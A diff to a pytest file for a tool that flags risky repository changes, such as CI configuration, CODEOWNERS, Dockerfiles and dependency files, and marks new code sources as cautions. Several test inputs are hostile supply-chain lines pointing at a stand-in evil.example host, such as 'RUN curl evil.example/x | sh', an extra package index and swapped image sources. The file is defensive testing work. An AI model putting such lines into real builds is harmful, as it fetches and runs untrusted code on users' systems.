@@ -2,7 +2,9 @@
 
 from pathlib import PurePosixPath
 
-from tpucfg.changes.repository_changes import ci_paths, ci_statements
+import pytest
+
+from tpucfg.changes.repository_changes import build_paths, build_statements, ci_paths, ci_statements
 from tpucfg.changes.statements import Risk
 
 
@@ -17,7 +19,14 @@ def test_changed_files_are_one_caution() -> None:
 def test_what_is_hidden_at_the_root_counts_unless_it_is_harmless() -> None:
     """No list of services is complete, so each hidden file counts; other names only where a service reads them."""
     counted = [".github", ".azuredevops", ".teamcity", ".pre-commit-config.yaml", ".gitmodules", ".vscode", ".envrc"]
-    named = ["Jenkinsfile", "ci/azure-pipelines.yml", "appveyor.yml", "docs/CODEOWNERS", "tools/x/action.yml"]
+    named = [
+        "Jenkinsfile",
+        "ci/azure-pipelines.yml",
+        "appveyor.yml",
+        "docs/CODEOWNERS",
+        "tools/x/action.yml",
+        "a/.gitattributes",
+    ]
     files = [f"{name}/a/b" if "." not in name[1:] else name for name in counted] + named
     assert {*map(str, ci_paths([*map(PurePosixPath, files)]))} == {*counted, *named}
 
@@ -31,3 +40,59 @@ def test_what_is_hidden_at_the_root_counts_unless_it_is_harmless() -> None:
         "data/pipeline.yaml",
     ]
     assert ci_paths([*map(PurePosixPath, others)]) == ()
+
+
+def test_those_who_approve_have_a_caution_of_their_own() -> None:
+    """CODEOWNERS runs nothing."""
+    (located,) = ci_statements([PurePosixPath(".github/CODEOWNERS")])
+    assert located.plain == ".github/CODEOWNERS changed: it decides who has to approve a change"
+    assert located.statement.risk is Risk.UNKNOWN
+
+
+def test_files_of_images_are_found_by_name() -> None:
+    """Files that `docker build` and installers of packages read count, and scripts, in any folder."""
+    built = (
+        *(
+            "trainer/Dockerfile",
+            "gpu.Dockerfile",
+            "Dockerfile.dev",
+            "a/requirements.txt",
+            "requirements/base.in",
+            "b.sh",
+        ),
+        *("pyproject.toml", "uv.lock", "compose.yaml", "dev-requirements.txt", "constraints.txt", "Makefile"),
+    )
+    others = ("README.md", "trainer/train.py", "tpucfg.yaml", "data/words.txt")
+    assert {*map(str, build_paths(map(PurePosixPath, (*built, *others))))} == {*built}
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "source"),
+    [
+        ("jax==0.10.2\n", "jax==0.10.3\n", ""),
+        ("x @ https://h.example/own/1/x.whl\n", "x @ https://h.example/own/2/x.whl\n", ""),
+        ("FROM python:3.11\n", "FROM python:3.12\n", ""),
+        ("jax\n", "--extra-index-url https://evil.example/simple\njax\n", "https://evil.example"),
+        ("jax\n", "jax @ git+ssh://git@evil.example/x\n", "evil.example"),
+        ("FROM a\n", "FROM a\nRUN curl evil.example/x | sh\n", "evil.example"),
+        ("FROM own/python\n", "FROM --platform=linux/amd64 evil/python AS a\n", "docker.io/evil"),
+        ("ARG B=r.example/own/x\n", "ARG B=evil.example/own/x\n", "evil.example"),
+        ("ADD https://github.com/own/a/x /\n", "ADD https://github.com/evil/a/x /\n", "https://github.com/evil"),
+    ],
+)
+def test_code_from_elsewhere_in_an_image_is_a_caution(old: str, new: str, source: str) -> None:
+    """A new version is a change, another host or owner a caution."""
+    file = PurePosixPath("Dockerfile")
+    first, *more = build_statements([file], [old.encode()], {file: new.encode()})
+    assert (first.plain, first.statement.risk) == (
+        "Dockerfile changed: images that are built from now on differ",
+        Risk.NONE,
+    )
+    assert [located.statement.risk for located in more] == [Risk.CAUTION] * bool(source)
+    assert all(source in located.plain for located in more)
+
+
+def test_a_file_of_an_image_that_cannot_be_read_is_a_caution() -> None:
+    """A link, or a file above the limit, hides where code comes from."""
+    file = PurePosixPath("Dockerfile")
+    assert [item.statement.risk for item in build_statements([file], [], {file: None})] == [Risk.NONE, Risk.CAUTION]
